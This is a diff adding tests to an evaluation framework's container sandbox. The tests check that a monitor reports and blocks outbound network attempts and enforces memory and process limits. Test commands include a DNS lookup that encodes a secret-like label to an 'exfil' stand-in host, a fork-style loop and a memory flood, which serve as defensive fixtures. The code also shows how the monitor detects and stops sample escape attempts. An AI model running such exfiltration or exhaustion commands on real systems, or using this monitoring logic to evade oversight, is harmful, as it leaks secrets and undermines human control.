@@ -19,7 +19,9 @@ import pytest
 from eval_pipelines.catalog.specs import SandboxSpec, SuiteSpec, TaskSpec
 from eval_pipelines.containers import ComposeError, ContainerConfig, load_project
 from eval_pipelines.containers._environment import ContainerSandboxEnvironment
+from eval_pipelines.core import events
 from eval_pipelines.engine.bridge import SandboxUnavailableError, check_isolation, load_task
+from eval_pipelines.scripted._policies import RED_TEAM_ATTEMPTS
 from resources.sandbox import SandboxBackend
 from tests.container_support import leftovers, require_container_engine
 
@@ -129,6 +131,100 @@ def test_a_sample_s_services_share_only_their_private_network(engine, monkeypatc
     assert seen["socket"] != 0
     assert seen["motd"] == "copied into the container, never mounted\n"
     assert seen["order"] == ["default", "peer"]
+
+
+@pytest.fixture
+def bus():
+    seen: list[events.SandboxEvent] = []
+    unsubscribe = events.subscribe(seen.append)
+    yield seen
+    unsubscribe()
+
+
+def of(bus, kind: str) -> list[dict]:
+    return [e.details for e in bus if e.kind == kind]
+
+
+def test_the_monitor_sees_a_container_s_calls_as_it_sees_bwrap_s(engine, bus):
+    """The bwrap watch's promises, in a container sample: the red-team's hidden attempts, an
+    outside name looked up (the engine's resolver forwards it from inside the sample) and a
+    peer's own attempt are reported with their destination and fail at once; the private
+    network is the task's, not an attempt; memory and fork bombs are limit hits noted in the
+    call's output; counters are sampled at 10 Hz or more."""
+    config = ContainerConfig(file=str(ISOLATION), limits=SandboxSpec(memory_mb=128, pids=48))
+    hidden = [command for name, command in RED_TEAM_ATTEMPTS if name.startswith("hidden-")]
+
+    async def body(environments):
+        default, peer = environments["default"], environments["peer"]
+        started = time.monotonic()
+        outputs = [await default.exec(["sh", "-c", command]) for command in hidden]
+        lookup = await default.exec(["getent", "hosts", "k3y-5ecret.exfil.example.com"])
+        seconds = time.monotonic() - started
+        private = await default.exec(
+            ["python3", "-c", "import socket; socket.create_connection(('peer', 8000)).close()"]
+        )
+        await peer.exec(
+            ["python3", "-c", "import socket; socket.socket().connect(('192.0.2.5', 22))"]
+        )
+        idle = await default.exec(["sleep", "2"])
+        memory = await default.exec(["sh", "-c", "head -c 400M /dev/zero | tail | wc -c"])
+        fork = await default.exec(["sh", "-c", "for i in $(seq 80); do sleep 3 & done; wait"])
+        return outputs, lookup, seconds, private, idle, memory, fork
+
+    outputs, lookup, seconds, private, idle, memory, fork = run(_in_sample(config, body))
+    attempts = of(bus, "network_attempt")
+    for expected in (
+        {"destination": "203.0.113.9", "port": 443, "protocol": "tcp", "source": "default"},
+        {"destination": "198.51.100.7", "port": 8443, "protocol": "tcp", "source": "default"},
+        {"destination": "192.0.2.5", "port": 22, "protocol": "tcp", "source": "peer"},
+    ):
+        assert expected in attempts, attempts
+    assert "No route to host" in outputs[-1].stderr
+    assert lookup.returncode == 2
+    assert any(a.get("query") == "k3y-5ecret.exfil.example.com" for a in attempts), attempts
+    assert seconds < 20, "each attempt refused at once, not left to time out"
+    # The peer is reached on the private network, and that is not an attempt.
+    assert private.success and len(attempts) == 4, attempts
+    peaks = [d for d in of(bus, "counters") if d.get("peak")]
+    assert idle.success and any(
+        p["seconds"] >= 2 and p["samples"] >= 10 * p["seconds"] for p in peaks
+    ), peaks
+    hits = of(bus, "limit_hit")
+    assert {"limit": "memory", "limit_bytes": 128 << 20} in hits
+    assert "[sandbox] memory limit (128 MB) reached: process killed" in memory.stderr
+    assert {"limit": "pids", "max_pids": 48} in hits
+    assert "[sandbox] process limit (48) reached: fork refused" in fork.stderr
+    assert all(e.sandbox.startswith("eval-") for e in bus)
+
+
+class Stop(Exception):
+    """What the monitor raises to stop a sample (TerminateSampleError in real runs)."""
+
+
+def test_a_monitor_stop_kills_the_container_call_and_what_it_started(engine):
+    config = ContainerConfig(file=str(ISOLATION), limits=SandboxSpec(timeout_seconds=60))
+
+    def stop(event: events.SandboxEvent) -> None:
+        if event.kind == "network_attempt":
+            raise Stop()
+
+    async def body(environments):
+        default = environments["default"]
+        unsubscribe = events.subscribe(stop)
+        started = time.monotonic()
+        try:
+            with pytest.raises(Stop):
+                await default.exec(
+                    ["sh", "-c", "sleep 50 & sleep 51 & getent hosts a.example.net; sleep 52"]
+                )
+        finally:
+            unsubscribe()
+        seconds = time.monotonic() - started
+        left = await default.exec(["sh", "-c", "ps -eo comm | grep -c sleep"])
+        return seconds, left.stdout.strip()
+
+    seconds, sleeping = run(_in_sample(config, body))
+    assert seconds < 10 and sleeping == "0"
 
 
 def test_exec_keeps_inspect_s_contract(engine):
